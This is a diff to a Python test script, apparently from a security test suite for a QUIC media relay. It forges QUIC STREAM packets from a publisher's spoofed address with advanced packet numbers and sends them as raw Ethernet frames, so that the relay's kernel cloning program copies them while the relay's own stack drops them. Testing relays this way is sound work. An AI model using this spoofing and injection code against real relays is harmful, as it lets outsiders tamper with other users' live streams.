@@ -6,12 +6,19 @@
 Run in the publisher's namespace while it sends. Watches IFACE for the
 publisher's next plaintext-profile 1-RTT packet to RELAY_IP:RELAY_PORT that
 starts with a STREAM frame of a client uni stream at an offset > 0 (a live
-subgroup stream), then sends, from the publisher's address and port, one
-copy per OFFSET: same DCID and packet number, one STREAM frame of 16 bytes
-at OFFSET on the same stream, the plaintext tag. The relay's QUIC stack
-drops each copy (its packet number is a duplicate); the kernel sees a media
-packet and clones it. Prints "spoofed sid=S pn=P offsets=..." and exits 0,
-or exits 1 when no such packet came within 10 s.
+subgroup stream), then sends one forged copy per OFFSET from the
+publisher's address and port: same DCID, a packet number 50 + i ahead of
+the captured one (new for the relay's packet-number window, finding 2a),
+one STREAM frame of 16 bytes at OFFSET on the same stream, the plaintext
+tag. The forgeries go out as raw Ethernet frames to a MAC that is not the
+relay's: the relay's tc ingress program sees them (it does not look at the
+destination MAC) and clones them, while its IP stack drops them as
+PACKET_OTHERHOST, so the relay's QUIC stack never processes them (an
+accepted forgery at 2^40 would close the publisher's connection with
+FLOW_CONTROL_ERROR, which is not what this test is about). The real
+packets that later carry those numbers are not cloned (duplicates for the
+kernel): the agent sends their bytes. Prints "spoofed sid=S pn=P
+offsets=..." and exits 0, or exits 1 when no such packet came within 10 s.
 """
 import socket
 import struct
@@ -88,19 +95,26 @@ def main():
         print("no live stream packet of the publisher seen", file=sys.stderr)
         return 1
     src, sport, pay, sid = m
-    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
-    raw.bind((src, 0))
-    for off in offsets:
-        q = pay[:13] + bytes([0x0E]) + pay[14:18] + qv8(off) + struct.pack(">H", 0x4000 | 16)
-        q += b"\x5a" * 16 + TAG
+    smac = frame[6:12]
+    pn0 = struct.unpack(">I", pay[9:13])[0]
+    tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    tx.bind((iface, 0))
+    for i, off in enumerate(offsets):
+        pn = (pn0 + 50 + i) & 0xFFFFFFFF
+        q = pay[:9] + struct.pack(">I", pn) + bytes([0x0E]) + pay[14:18] + qv8(off)
+        q += struct.pack(">H", 0x4000 | 16) + b"\x5a" * 16 + TAG
         udp = struct.pack(">HHHH", sport, relay_port, 8 + len(q), 0) + q
         pseudo = socket.inet_aton(src) + socket.inet_aton(relay_ip)
         pseudo += struct.pack(">BBH", 0, 17, len(udp))
         c = csum(pseudo + udp) or 0xFFFF
         udp = udp[:6] + struct.pack(">H", c) + udp[8:]
-        raw.sendto(udp, (relay_ip, 0))
-    pn = struct.unpack(">I", pay[9:13])[0]
-    print("spoofed sid=%d pn=%d offsets=%s" % (sid, pn, ",".join(map(str, offsets))), flush=True)
+        ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0,
+                         socket.inet_aton(src), socket.inet_aton(relay_ip))
+        ip = ip[:10] + struct.pack(">H", csum(ip)) + ip[12:]
+        # a unicast MAC that is not the relay's: PACKET_OTHERHOST there
+        tx.send(b"\x02\x00\x00\x00\x00\x99" + smac + b"\x08\x00" + ip + udp)
+    print("spoofed sid=%d pn=%d offsets=%s" % (sid, pn0 + 50, ",".join(map(str, offsets))),
+          flush=True)
     return 0
 
 
